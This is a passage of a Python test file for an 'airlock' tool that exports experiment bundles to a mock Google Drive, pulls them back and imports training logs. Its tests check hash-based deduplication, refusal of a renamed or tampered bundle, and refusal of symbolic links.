    key = drive_server.write_service_account(tmp_path / "sa.json")
    cfg = load_config(data={"drive": {"folder_id": folder, "credentials": str(key),
                                      "endpoint": drive_server.endpoint}}, start=project)
    res = airlock.export("v01", config=cfg)
    assert res["remote"] == "drive" and res["uploaded"]
    stored = drive_server.find(res["remote_path"], root=folder)
    assert stored is not None and hashlib.sha256(drive_server.content(stored.id)).hexdigest() == res["bundle_sha256"]
    again = airlock.export("v01", config=cfg)
    assert again["bytes_uploaded"] == 0 and again["bundle_sha256"] == res["bundle_sha256"]
    dst = tmp_path / "colab"
    pulled = airlock.pull("v01", config=cfg, to=dst)
    assert pulled["bundle"] == res["bundle"] and (dst / "experiments/v01/train.py").read_text() == TRAIN
    assert airlock.status("v01", config=cfg, root=dst)["in_sync"] is True
    # the cluster's sync engine put the logs on Drive under the same relative path
    from colabkit.remotes import open_remote
    logs = tmp_path / "cluster-logs.txt"
    logs.write_text("step 50 loss 0.9\n")
    with open_remote(cfg, "drive") as r:
        r.put(logs, "experiments/v01/logs/train.log")
    out = airlock.import_logs("v01", config=cfg)
    assert [f["status"] for f in out["files"]] == ["imported"]
    assert (project / "experiments/v01/logs/train.log").read_text() == "step 50 loss 0.9\n"
    assert out["summary"]["steps"] == 50 and out["summary"]["last_loss"] == 0.9


def test_a_bundle_under_another_name_is_refused(project: Path, tmp_path: Path):
    res = airlock.export("v01", config=cfg_of(project))
    zdir = tmp_path / "remote" / "airlock" / "v01"
    fake = "0" * 64
    (zdir / f"{fake}.zip").write_bytes((zdir / f"{res['bundle']}.zip").read_bytes())
    with pytest.raises(IntegrityError) as ei:
        airlock.pull("v01", config=cfg_of(project), bundle="0000", to=tmp_path / "c")
    assert str(ei.value) == (f"bundle 000000000000 of v01: its manifest lists files whose content hash is "
                             f"{res['short']}, not 000000000000; the bundle was altered: export it again")
    assert not (tmp_path / "c" / "experiments").exists()


def test_a_tracked_symlink_is_refused_at_export(project: Path):
    (project / "experiments/v01/models/link.py").symlink_to(project / "experiments/v01/models/net.py")
    git(project, "add", "-A")
    git(project, "commit", "-q", "-m", "link")
    with pytest.raises(AirlockError) as ei:
        airlock.export("v01", config=cfg_of(project))
    assert str(ei.value) == ("models/link.py is a symbolic link; a bundle holds plain files only: replace it with "
                             "the file or add it to airlock.exclude")
